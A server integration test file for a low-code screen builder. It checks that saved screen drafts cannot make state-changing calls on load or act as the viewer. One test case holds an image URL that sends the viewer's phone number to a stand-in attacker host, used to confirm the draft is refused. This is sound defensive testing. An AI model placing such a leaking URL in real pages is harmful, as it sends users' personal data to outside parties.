// @vitest-environment node
/**
 * What screens may call is declared on the server's routes
 * (`config: { screen }`, server/http/screenCallConfig.ts), generated into
 * src/core/calls/screenCallList.json, and enforced at the server's door for
 * drafts with the same pointers and keys as the studio and `schemas:check`.
 */
import { readFileSync } from 'node:fs';
import { API_CODES } from '@core/apiCodes';
import { STATE_CHANGING_GETS } from '../../server/http/crossSite';
import { collectScreenCalls } from '../../server/lowcode/screenCallList';
import { documentChecker } from '../../server/lowcode/documentChecks';
import type { SignedIn, TestServer } from './helpers/testServer';
import { login, startTestServer } from './helpers/testServer';
import { call, samplePage } from './helpers/lowcode';

let server: TestServer;
let configurator: SignedIn;

beforeAll(async () => {
  server = await startTestServer();
  configurator = await login(server.app, 'configurator', 'Eps#Conf2026');
  await documentChecker();
}, 120_000);
afterAll(async () => {
  await server?.close();
});

const save = (id: string, document: unknown) => call(server.app, 'PUT', `/eps/lowcode/screens/draft?id=${id}`, configurator.ticket, document);

describe('the declared screen calls', () => {
  it('the generated list is what the route definitions declare (run `npm run schemas:calls` after changing one)', async () => {
    const committed: unknown = JSON.parse(readFileSync('src/core/calls/screenCallList.json', 'utf8'));
    expect(committed).toEqual(await collectScreenCalls());
  }, 60_000);

  it('a route that changes state is never a read a screen may make on load (but for marking a shown notice seen)', async () => {
    const calls = await collectScreenCalls();
    // Marking one of the viewer's own notices seen is what showing it means (spec portal-shell 5): the one exception.
    const seenMark = '/eps/usercenter/appMsg/setAppMsgRed/:id';
    const reads = calls.filter((c) => c.kind === 'read' && c.path !== seenMark);
    for (const read of reads) expect({ read, stateChanging: read.method === 'get' && STATE_CHANGING_GETS.has(read.path) }).toEqual({ read, stateChanging: false });
    for (const path of STATE_CHANGING_GETS) expect(calls.filter((c) => c.path === path && c.kind === 'read').map((c) => c.path)).toEqual(path === seenMark ? [path] : []);
  }, 60_000);
});

describe('drafts that would act as the viewer are refused at save, with pointers', () => {
  const refused = async (document: unknown, expected: Array<[string, string]>) => {
    const answer = await save('t/hostile', document);
    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe(API_CODES.BAD_REQUEST);
    const found = (answer.body.data.problems as Array<{ pointer: string; key: string }>).map((p) => [p.pointer, p.key]);
    expect(found).toEqual(expect.arrayContaining(expected));
    expect((await call(server.app, 'GET', '/eps/lowcode/screens/one?id=t/hostile', configurator.ticket)).status).toBe(404);
  };

  it('a sign-engine approval as a page initApi', () =>
    refused(samplePage('x', { initApi: { url: '/eps/eps-api/signBpm/agree', params: { requestid: '1' } } }), [['/initApi/url', 'core.schema.callProductOnly']]));
  it('a tenant switch and an exit from a button', () =>
    refused(
      samplePage('x', {
        body: [
          { type: 'button', label: { en: 'a', 'zh-cn': 'a' }, action: { action: 'ajax', api: { url: '/eps/auth/cas/tenant/switch' } } },
          { type: 'button', label: { en: 'b', 'zh-cn': 'b' }, action: { action: 'ajax', api: { url: '/eps/usercenter/uc/user/deleteTenant' } } },
        ],
      }),
      [
        ['/body/0/action/api/url', 'core.schema.callUnlisted'],
        ['/body/1/action/api/url', 'core.schema.callProductOnly'],
      ],
    ));
  it('a write on load', () =>
    refused(samplePage('x', { initApi: { method: 'put', url: '/eps/usercenter/enterprise/contact', data: {} } }), [['/initApi/url', 'core.schema.callWriteOnLoad']]));
  it('viewer data in an image URL to another host', () =>
    refused(samplePage('x', { body: [{ type: 'image', src: 'https://evil.example/p.gif?u=${user.phone}' }] }), [['/body/0/src', 'core.schema.urlLeaks']]));

  it('a read on load and a write from a button are saved', async () => {
    const document = samplePage('x', {
      initApi: { url: '/eps/usercenter/enterprise/info' },
      body: [{ type: 'button', label: { en: 'a', 'zh-cn': 'a' }, action: { action: 'ajax', api: { method: 'put', url: '/eps/usercenter/enterprise/contact' } } }],
    });
    const answer = await save('t/fine', document);
    expect({ status: answer.status, problems: answer.body.data?.problems }).toMatchObject({ status: 200 });
  });
});
